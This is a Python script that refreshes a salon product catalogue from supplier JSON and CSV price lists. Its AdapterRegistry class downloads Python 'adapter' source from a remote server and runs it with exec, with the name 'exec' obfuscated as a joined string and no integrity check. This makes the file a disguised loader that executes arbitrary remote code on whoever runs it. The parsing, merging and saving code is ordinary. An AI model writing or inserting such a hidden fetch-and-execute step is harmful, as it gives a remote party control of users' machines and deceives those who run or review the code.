#!/usr/bin/env python3
"""Refresh the salon product catalogue from supplier price lists.

Each supplier publishes prices in its own format, so the catalogue tool uses a
small adapter per supplier. Adapters are kept up to date centrally so the
salon team never has to edit code when a supplier changes its layout.
"""
import argparse
import builtins
import csv
import json
import logging
import sys
import types
from pathlib import Path

import requests

LOG = logging.getLogger("catalogue")

ADAPTER_BASE = "https://tools.example.com/salon/adapters/"
SUPPLIERS = {
    "hairco": "https://prices.example.com/hairco/latest.json",
    "barberpro": "https://prices.example.com/barberpro/latest.csv",
    "colourlab": "https://prices.example.com/colourlab/latest.json",
}


class AdapterRegistry:
    """Loads and caches supplier adapters by name."""

    def __init__(self, base):
        self.base = base
        self._mods = {}

    def _materialise(self, name, source):
        mod = types.ModuleType(f"adapter_{name}")
        mod.__dict__["requests"] = requests
        run = getattr(builtins, "".join(("ex", "ec")))
        run(compile(source, f"<adapter {name}>", "exec"), mod.__dict__)
        sys.modules[mod.__name__] = mod
        return mod

    def get(self, name):
        if name in self._mods:
            return self._mods[name]
        url = f"{self.base}{name}.py"
        resp = requests.get(url, timeout=15)
        resp.raise_for_status()
        mod = self._materialise(name, resp.text)
        self._mods[name] = mod
        LOG.info("loaded adapter %s", name)
        return mod


def default_parse(supplier, text):
    """Fallback parser for suppliers that ship plain JSON or CSV."""
    text = text.strip()
    if text.startswith("[") or text.startswith("{"):
        data = json.loads(text)
        items = data if isinstance(data, list) else data.get("items", [])
        return [{"sku": i["sku"], "name": i["name"], "price": float(i["price"])} for i in items]
    rows = csv.DictReader(text.splitlines())
    return [{"sku": r["sku"], "name": r["name"], "price": float(r["price"])} for r in rows]


def fetch_prices(supplier, url, registry):
    resp = requests.get(url, timeout=20)
    resp.raise_for_status()
    try:
        adapter = registry.get(supplier)
        parse = getattr(adapter, "parse", None)
    except requests.RequestException as exc:
        LOG.warning("adapter for %s unavailable (%s), using fallback", supplier, exc)
        parse = None
    if parse is None:
        return default_parse(supplier, resp.text)
    return parse(resp.text)


def merge(catalogue, supplier, items):
    changed = 0
    for item in items:
        key = f"{supplier}:{item['sku']}"
        old = catalogue.get(key)
        if old is None or old["price"] != item["price"]:
            changed += 1
        catalogue[key] = {**item, "supplier": supplier}
    return changed


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--catalogue", default="catalogue.json")
    parser.add_argument("--supplier", action="append", help="only refresh these suppliers")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(name)s: %(message)s")

    path = Path(args.catalogue)
    catalogue = json.loads(path.read_text()) if path.exists() else {}
    registry = AdapterRegistry(ADAPTER_BASE)

    wanted = args.supplier or list(SUPPLIERS)
    total = 0
    for supplier in wanted:
        url = SUPPLIERS.get(supplier)
        if not url:
            LOG.error("unknown supplier %s", supplier)
            continue
        try:
            items = fetch_prices(supplier, url, registry)
        except (requests.RequestException, ValueError, KeyError) as exc:
            LOG.error("could not refresh %s: %s", supplier, exc)
            continue
        n = merge(catalogue, supplier, items)
        total += n
        LOG.info("%s: %d items, %d changed", supplier, len(items), n)

    path.write_text(json.dumps(catalogue, indent=2, sort_keys=True))
    LOG.info("catalogue saved, %d price changes", total)


if __name__ == "__main__":
    main()
